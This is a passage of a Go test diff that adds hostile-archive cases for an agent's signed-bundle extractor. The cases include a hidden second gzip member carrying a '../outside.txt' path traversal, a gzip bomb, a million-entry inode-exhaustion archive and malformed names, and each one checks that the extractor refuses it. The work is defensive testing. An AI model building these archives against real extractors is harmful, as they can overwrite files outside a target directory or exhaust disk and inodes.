+		archiveCase("duplicate-path", "duplicate entry: a is already a file",
+			"signed bundle holding the same regular file twice (which copy wins?)",
+			"extractor refuses a second entry for a path already written",
+			func(t *testing.T) []byte {
+				return tgzOf(t, regular("a", ""), regular("a", "x"))
+			}),
+		archiveCase("file-dir-clash", "parent a is a file",
+			"signed bundle with a file a, then a file a/b under it",
+			"extractor creates parents only as directories it made itself; a file as a parent is refused",
+			func(t *testing.T) []byte {
+				return tgzOf(t, regular("a", ""), regular("a/b", "x"))
+			}),
+		archiveCase("dir-file-clash", "duplicate entry: a is already a directory",
+			"signed bundle with a directory a/, then a file a",
+			"extractor refuses an entry whose path is already a directory",
+			func(t *testing.T) []byte {
+				return tgzOf(t, dirEnt("a/"), regular("a", "x"))
+			}),
+		archiveCase("non-utf8-name", "name is not valid UTF-8",
+			"signed bundle with an entry name holding byte 0xff (PAX path record)",
+			"extractor refuses names that are not valid UTF-8",
+			func(t *testing.T) []byte {
+				return tgzOf(t, regular("a\xffb", "x"))
+			}),
+		archiveCase("nul-name", "invalid tar header",
+			"signed bundle with a PAX path record holding NUL (a\\x00xb, built by hand: archive/tar refuses to write it)",
+			"Go's tar reader refuses a PAX path with NUL as an invalid header (ustar and GNU names end at the first NUL); the extractor's own NUL check is a backstop",
+			func(t *testing.T) []byte {
+				return gzipped(t, nulNameTar(t))
+			}),
+		archiveCase("truncated-gzip", "unexpected EOF",
+			"signed bundle whose gzip stream stops halfway",
+			"a damaged tar or gzip stream is a rejection, and the partial tree is removed",
+			func(t *testing.T) []byte {
+				b := tgzOf(t, regular("a", strings.Repeat("hello ", 1000)), regular("b", "x"))
+				return b[:len(b)/2]
+			}),
+		archiveCase("not-gzip", "not gzip",
+			"signed bundle that is a bare tar, not gzip",
+			"extractor requires a gzip stream",
+			func(t *testing.T) []byte {
+				return tarball(t, regular("a", "x"))
+			}),
+		archiveCase("trailing-garbage", "after the end of the gzip stream",
+			"signed bundle with bytes after the gzip stream",
+			"extractor refuses anything after the gzip stream's end",
+			func(t *testing.T) []byte {
+				return append(tgzOf(t, regular("a", "x")), "garbage"...)
+			}),
+		archiveCase("second-gzip-member", "after the end of the gzip stream",
+			"signed bundle with a second gzip member hiding ../outside.txt",
+			"gzip multistream off: a second member is refused, never extracted",
+			func(t *testing.T) []byte {
+				return append(tgzOf(t, regular("a", "x")), tgzOf(t, regular("../outside.txt", "pwned"))...)
+			}),
+		{name: "gzip-bomb", config: "agent-small.yaml", want: "more than 1048576 bytes",
+			attack:  "signed bundle of 128 MiB of zeros in about 130 KB, claiming 1 MiB unpacked",
+			defense: "extraction stops at the signed unpacked size (below the policy's limits.unpackedBytes)",
+			plant: func(t *testing.T) {
+				// 128 MiB of zeros in about 130 KB, claiming (signed) 1 MiB:
+				// the extractor stops at the signed size, below the policy's 64 MiB.
+				s.plantBundle("bomb", zeroBomb(t, 128), nil, 1, 1<<20, nil)
+			}},
+		{name: "millions-of-entries", want: fmt.Sprintf("archive has more than %d entries", 2*trust.DefaultFiles),
+			attack:  "signed bundle claiming 1 file but holding 1,100,000 empty entries (inode exhaustion), in about 9 MB",
+			defense: fmt.Sprintf("extractor entry cap of 2 x policy limits.files (%d by default): it stops there, not at the signed files count", 2*trust.DefaultFiles),
+			plant: func(t *testing.T) {
+				// The agent caps bytes at the signed unpacked size but
+				// entries only at twice the policy's files limit: it writes
+				// 400,000 empty files (seconds of work, 400,000 inodes)
+				// before refusing, where the signed count says 1.
+				s.plantBundle("millions", manyEntries(t, 1_100_000), nil, 1, 0, nil)
+			}},
 	}
 
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
+			if tc.attack == "" || tc.defense == "" {
+				t.Fatalf("case %s: attack and defense must be set", tc.name)
+			}
+			reliability.Record(t, reliability.Case{Area: reliability.AreaHostile, Name: tc.name, Attack: tc.attack, Defense: tc.defense})
 			s.t = t
 			defer s.restore()
 			before := h.snapshot(t)
